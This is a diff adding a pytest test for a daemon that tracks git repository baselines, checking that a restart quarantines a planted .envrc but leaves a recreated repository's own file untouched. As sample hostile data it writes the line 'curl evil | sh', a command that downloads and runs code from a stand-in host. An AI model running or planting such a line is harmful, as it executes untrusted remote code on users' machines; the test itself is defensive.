@@ -110,3 +110,38 @@ def test_a_restart_that_still_finds_no_room_says_its_failures_within_the_bound(
     fresh.recover()
     [reason] = fresh.tainted.values()
     assert reason.endswith("; and 280 more that could not be done either") and reason.count("/.envrc: ") == 20
+
+
+@pytest.mark.parametrize("meanwhile", ["cloned anew at its path", "left as it was"])
+def test_a_start_checks_a_dead_daemon_s_record_only_against_the_same_repository(
+        tmp_path: Path, meanwhile: str) -> None:
+    """A daemon stopped with a session's plant in the worktree (its record
+    kept); the user then removes the repository and makes a new one at the
+    same path: the start drops that record, says so, and writes nothing of
+    the old repository's into the new one (its branches and objects were
+    written in, and the user's work there taken for a session's). The twin:
+    the same repository, whose plant the start moves aside as always."""
+    repo = make_repo(tmp_path / "r")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s", repo)
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    git(repo, "branch", "old-only")
+    os.close(next(iter(store._domains.values())).lock_fd)  # the daemon stopped: its lock gone with it
+    if meanwhile == "cloned anew at its path":
+        os.rename(repo, tmp_path / "gone")
+        repo = make_repo(tmp_path / "r")
+        (repo / ".envrc").write_text("the user's own\n")
+    fresh = baselines.Baselines(str(tmp_path / "state"))
+    done = fresh.recover()
+    assert fresh.tainted == {}
+    if meanwhile == "cloned anew at its path":
+        assert [(p.path, p.why) for p in done] == [(str(repo), (
+            "another directory than at its baseline (removed, and made or cloned anew at its path): the baseline "
+            "a daemon that stopped kept of it was dropped, and nothing of it written here"))]
+        assert (repo / ".envrc").read_text() == "the user's own\n"
+        assert "old-only" not in git(repo, "branch", "--list")
+        assert os.listdir(tmp_path / "state" / "baselines") == [] or not any(
+            n.endswith(".json") for n in os.listdir(tmp_path / "state" / "baselines"))
+    else:
+        assert not (repo / ".envrc").exists()
+        assert any(p.path.startswith(f"{repo / '.envrc'}{fs.QUARANTINED}") for p in done), done
